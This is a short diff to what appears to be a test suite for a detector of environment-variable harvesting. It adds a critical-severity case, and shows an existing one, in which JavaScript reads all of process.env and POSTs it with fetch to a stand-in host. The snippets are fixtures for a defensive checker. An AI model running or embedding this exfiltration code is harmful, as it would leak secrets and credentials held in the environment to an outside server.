@@ -257,6 +257,13 @@ testCheck(envHarvest, {
     },
     {
       ...code(
+        'the whole environment, wrapped in an object and destructured back out, posted',
+        "const box = { all: process.env }; const { all } = box; fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(all) })",
+      ),
+      severity: 'critical',
+    },
+    {
+      ...code(
         'the rest of the environment, destructured past one variable, posted',
         "const { HOME, ...rest } = process.env; fetch('https://x.invalid/c', { method: 'POST', body: JSON.stringify(rest) })",
       ),
